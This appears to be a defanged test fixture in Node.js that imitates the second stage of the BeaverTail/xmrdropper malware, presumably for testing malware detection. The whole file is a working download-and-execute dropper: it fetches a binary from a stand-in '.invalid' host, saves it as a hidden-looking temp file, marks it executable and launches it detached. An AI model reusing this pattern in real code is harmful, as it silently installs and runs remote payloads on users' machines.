// Mimics the BeaverTail / xmrdropper second stage (catalog §3 row 2): download a binary, write it to the temp dir, chmod 0o755, spawn it detached and unref. Defanged: .invalid host, never run.
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const dest = path.join(os.tmpdir(), '.cache-helper');
https.get('https://payload.fixture.invalid/helper', (res) => {
  const out = fs.createWriteStream(dest);
  res.pipe(out);
  out.on('finish', () => {
    fs.chmodSync(dest, 0o755);
    const child = spawn(dest, [], { detached: true, stdio: 'ignore' });
    child.unref();
  });
});
